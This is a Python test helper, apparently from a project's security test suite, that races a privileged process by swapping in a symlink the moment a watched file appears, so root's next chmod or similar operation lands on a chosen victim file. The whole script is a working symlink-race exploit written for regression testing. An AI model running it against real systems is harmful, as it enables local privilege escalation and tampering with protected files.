#!/usr/bin/env python3
"""The local attacker of tests/37-local-attacker.bats: watch DIR with
inotify and, the moment a file named NAME appears there, rename a
symlink to VICTIM over it, so that whatever root does next by that path
(a chmod, say) lands on VICTIM.  Runs until the file STOP exists or
--max seconds pass; prints how many swaps it made.

usage: unix-racer.py DIR NAME VICTIM STOP [--max S]
"""
import ctypes
import os
import select
import struct
import sys
import time

IN_CREATE = 0x100
IN_MOVED_TO = 0x80


def main():
    d, name, victim, stop = sys.argv[1:5]
    limit = float(sys.argv[6]) if len(sys.argv) > 6 else 120
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE) < 0:
        sys.exit('inotify: %s' % os.strerror(ctypes.get_errno()))
    target = os.path.join(d, name)
    link = os.path.join(d, '.racer-link')
    swaps = 0
    end = time.monotonic() + limit
    open(stop + '.ready', 'w').close()
    while not os.path.exists(stop) and time.monotonic() < end:
        r, _, _ = select.select([fd], [], [], 0.2)
        if not r:
            continue
        buf = os.read(fd, 65536)
        off = 0
        while off < len(buf):
            _, mask, _, length = struct.unpack_from('iIII', buf, off)
            fname = buf[off + 16:off + 16 + length].rstrip(b'\0').decode()
            off += 16 + length
            if fname != name:
                continue
            try:
                os.symlink(victim, link)
                os.rename(link, target)
                swaps += 1
            except OSError:
                try:
                    os.unlink(link)
                except OSError:
                    pass
    print('swaps=%d' % swaps)


if __name__ == '__main__':
    main()
